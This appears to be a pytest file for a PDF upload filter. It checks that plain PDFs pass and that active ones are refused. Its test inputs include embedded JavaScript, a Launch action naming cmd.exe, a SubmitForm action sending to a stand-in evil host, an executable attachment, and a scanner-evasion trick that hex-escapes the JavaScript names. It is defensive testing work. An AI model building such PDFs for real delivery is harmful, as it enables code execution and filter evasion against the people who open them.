"""PDF: plain documents pass unchanged, active ones do not, however they hide it."""

import io

import pytest
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from predictu import filetypes
from predictu.filetypes import Unacceptable


def written(change=lambda writer: None, pages=1):
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(100, 100)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def action(kind, **entries):
    values = {NameObject(f"/{name}"): TextStringObject(value) for name, value in entries.items()}
    return DictionaryObject({NameObject("/S"): NameObject(kind)} | values)


def on_open(value):
    def change(writer):
        writer._root_object[NameObject("/OpenAction")] = value

    return change


def on_page(value):
    def change(writer):
        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): value})

    return change


def annotated(subtype):
    def change(writer):
        note = DictionaryObject({NameObject("/Subtype"): NameObject(subtype)})
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(note)])

    return change


# The same names, written as no scanner for texts would find them.
HIDDEN = written(on_open(action("/JavaScript", JS="x")))
HIDDEN = HIDDEN.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4aS")


def test_a_plain_document_is_kept_as_it_is():
    content = written(on_open(ArrayObject([])), pages=2)
    checked = filetypes.check(content)
    assert (checked.content_type, checked.content, checked.width) == ("application/pdf", content, None)


@pytest.mark.parametrize(
    "content",
    [
        written(on_page(action("/JavaScript", JS="app.alert(1)"))),
        written(lambda writer: writer.add_attachment("a.exe", b"MZ")),
        written(on_open(action("/JavaScript", JS="app.alert(1)"))),
        written(on_open(action("/Launch", F="cmd.exe"))),
        written(on_open(action("/SubmitForm", F="https://evil.example"))),
        written(on_open(action("/GoToR", F="other.pdf"))),
        written(annotated("/RichMedia")),
        written(annotated("/FileAttachment")),
        written(lambda writer: writer.encrypt("")),
        HIDDEN,
        written(pages=501),
        written()[:-200],
        b"%PDF-1.7\nnothing",
    ],
)
def test_refused(content):
    with pytest.raises(Unacceptable):
        filetypes.check(content)


def test_links_are_no_action_of_the_documents_own():
    assert filetypes.check(written(annotated("/Link"))).content_type == "application/pdf"
